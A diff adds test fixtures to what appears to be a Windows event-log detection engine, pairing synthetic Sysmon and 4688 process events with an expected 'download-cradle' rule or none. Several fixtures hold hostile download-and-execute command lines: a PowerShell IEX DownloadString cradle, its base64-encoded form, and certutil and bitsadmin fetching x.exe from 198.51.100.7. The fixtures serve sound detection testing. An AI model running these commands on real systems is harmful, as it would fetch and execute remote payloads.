@@ -464,6 +464,93 @@ static const struct {
      "task-created",
      HC_NONE,
      HL_NOT_SEEN},
+    {"PowerShell cradle on a command line (Sysmon 1)",
+     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 1,
+         4,
+         "<EventData>" D("Image", "C:\\Windows\\System32\\WindowsPowerShell"
+                                  "\\v1.0\\powershell.exe")
+             D("ParentImage", "C:\\Windows\\System32\\cmd.exe")
+                 D("CommandLine",
+                   "powershell -nop -w hidden -c \"IEX (New-Object "
+                   "Net.WebClient).DownloadString('http://198.51.100.7/"
+                   "a.ps1')\"") "</EventData>")},
+     "download-cradle",
+     HC_NONE,
+     HL_NOT_SEEN},
+    {"PowerShell cradle hidden in -enc (4688)",
+     {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
+         "<EventData>" D("NewProcessName",
+                         "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\"
+                         "powershell.exe")
+             D("ParentProcessName", "C:\\Windows\\System32\\cmd.exe")
+                 D("CommandLine",
+                   "powershell.exe -NoP -NonI -W Hidden -enc "
+                   "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQ"
+                   "BiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBu"
+                   "AGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuAD"
+                   "cALwBhAC4AcABzADEAJwApAA==") "</EventData>")},
+     "download-cradle",
+     HC_NONE,
+     HL_NOT_SEEN},
+    {"an admin's encoded command listing services",
+     {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
+         "<EventData>" D("NewProcessName",
+                         "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\"
+                         "powershell.exe")
+             D("ParentProcessName", "C:\\Windows\\explorer.exe")
+                 D("CommandLine",
+                   "powershell.exe -EncodedCommand "
+                   "RwBlAHQALQBTAGUAcgB2AGkAYwBlACAAfAAgAFcAaABlAHIAZQAtAE8AYg"
+                   "BqAGUAYwB0ACAAUwB0AGEAdAB1AHMAIAAtAGUAcQAgAFIAdQBuAG4AaQBu"
+                   "AGcAIAB8ACAAUwBlAGwAZQBjAHQALQBPAGIAagBlAGMAdAAgAE4AYQBtAG"
+                   "UA") "</EventData>")},
+     NULL,
+     HC_NONE,
+     HL_NOT_SEEN},
+    {"an admin's script run with -ExecutionPolicy Bypass",
+     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 1,
+         4,
+         "<EventData>" D("Image", "C:\\Windows\\System32\\WindowsPowerShell"
+                                  "\\v1.0\\powershell.exe")
+             D("ParentImage", "C:\\Windows\\System32\\svchost.exe")
+                 D("CommandLine",
+                   "powershell.exe -ExecutionPolicy Bypass "
+                   "-File C:\\Scripts\\backup.ps1") "</EventData>")},
+     NULL,
+     HC_NONE,
+     HL_NOT_SEEN},
+    {"certutil fetching a program",
+     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 1,
+         4,
+         "<EventData>" D("Image", "C:\\Windows\\System32\\certutil.exe")
+             D("ParentImage", "C:\\Windows\\System32\\cmd.exe")
+                 D("CommandLine",
+                   "certutil -urlcache -split -f http://198.51.100.7/x.exe "
+                   "C:\\ProgramData\\x.exe") "</EventData>")},
+     "download-cradle",
+     HC_NONE,
+     HL_NOT_SEEN},
+    {"certutil hashing a file",
+     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 1,
+         4,
+         "<EventData>" D("Image", "C:\\Windows\\System32\\certutil.exe")
+             D("ParentImage", "C:\\Windows\\System32\\cmd.exe")
+                 D("CommandLine", "certutil -hashfile C:\\Install\\ex.iso "
+                                  "SHA256") "</EventData>")},
+     NULL,
+     HC_NONE,
+     HL_NOT_SEEN},
+    {"bitsadmin fetching a program",
+     {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
+         "<EventData>" D("NewProcessName",
+                         "C:\\Windows\\System32\\bitsadmin.exe")
+             D("ParentProcessName", "C:\\Windows\\System32\\cmd.exe")
+                 D("CommandLine", "bitsadmin /transfer j /download /priority "
+                                  "high http://198.51.100.7/x.exe "
+                                  "C:\\Users\\Public\\x.exe") "</EventData>")},
+     "download-cradle",
+     HC_NONE,
+     HL_NOT_SEEN},
     {"schtasks for the backup program",
      {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 1,
          4,
